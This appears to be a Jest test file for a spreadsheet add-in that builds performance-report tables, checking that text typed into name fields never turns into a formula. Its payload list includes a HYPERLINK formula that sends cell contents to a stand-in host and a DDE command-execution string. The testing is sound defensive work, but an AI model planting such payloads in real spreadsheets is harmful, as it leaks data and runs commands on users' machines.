import { strFromU8, unzipSync } from "fflate";
import { baca, CONTOH, hitungSelesai, potret } from "../alat/buku";
import { sunting, tabelSelesai } from "../alat/buku-tabel";

jest.setTimeout(120_000);

/** Texts that a spreadsheet takes for formulas when they are typed, or is known to have taken for one. */
const jahat = [
  '=HYPERLINK("https://jahat.example/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "'=1+1",
];

/** Where it is planted, on the sheet that the tables are made from. */
const tempat: readonly (readonly [apa: string, lembar: string, sel: string])[] = [
  ["office name", "Pengukuran Kinerja 2024", "A2"],
  ["sasaran", "Pengukuran Kinerja 2024", "B7"],
  ["indikator", "Pengukuran Kinerja 2024", "C7"],
  ["satuan", "Pengukuran Kinerja 2024", "D7"],
];

/** Every formula in the package, read from its XML. */
function rumusBerkas(isi: Uint8Array): readonly string[] {
  const lembar = Object.entries(unzipSync(isi)).filter(([nama]) => /^xl\/worksheets\/[^/]+\.xml$/.test(nama));
  return lembar.flatMap(([nama, xml]) =>
    [...strFromU8(xml).matchAll(/<c\b[^>]*\br="([A-Z]+\d+)"[^>]*>\s*<f\b[^>]*?(?:\/>|>([^<]*)<)/g)].map(
      ([, sel, rumus]) => `${nama} ${sel} ${rumus ?? ""}`,
    ),
  );
}

/** The sample with this text in each of the places, as a person would have typed it. */
const tanam = (teks: string) =>
  sunting(baca(CONTOH), (context) => {
    for (const [apa, lembar, sel] of tempat) {
      const range = context.workbook.worksheets.getItem(lembar).getRange(sel);
      range.numberFormat = [["@"]];
      range.values = [[apa === "satuan" ? teks : `${teks} mutu aneka ${apa}`]];
    }
  });

test("the sample really has these places, and formulas are found where they are", async () => {
  const berumus = await sunting(baca(CONTOH), (context) => {
    context.workbook.worksheets.getItem("Renstra").getRange("Z1").formulas = [["=1+1"]];
  });
  const baru = rumusBerkas(berumus).filter((satu) => !rumusBerkas(baca(CONTOH)).includes(satu));
  expect(baru).toEqual([expect.stringMatching(/ Z1 1\+1$/)]);
});

describe.each(jahat.map((teks) => [JSON.stringify(teks), teks] as const))("%s in names", (_nama, teks) => {
  let ditanam: Uint8Array;
  beforeAll(async () => {
    ditanam = await tanam(teks);
  });

  test("is never a formula after Hitung Capaian", async () => {
    const { isi } = await hitungSelesai(ditanam);
    expect(rumusBerkas(isi)).toEqual(rumusBerkas(ditanam));
  });

  test("is never a formula in the tables of the LKj", async () => {
    const { isi } = await tabelSelesai(ditanam);
    expect(rumusBerkas(isi)).toEqual(rumusBerkas(ditanam));
  });
});

test.each(["+1+1", "-2+3", "@SUM(1,1)"])("%s reaches the tables of the LKj as the text that it is", async (teks) => {
  const { isi } = await tabelSelesai(await tanam(teks));
  const tabel = (await potret(isi)).sheets.filter(({ name }) => name.startsWith("Tabel"));
  expect(tabel.flatMap(({ values }) => values.flat())).toContain(`${teks} mutu aneka indikator`);
});
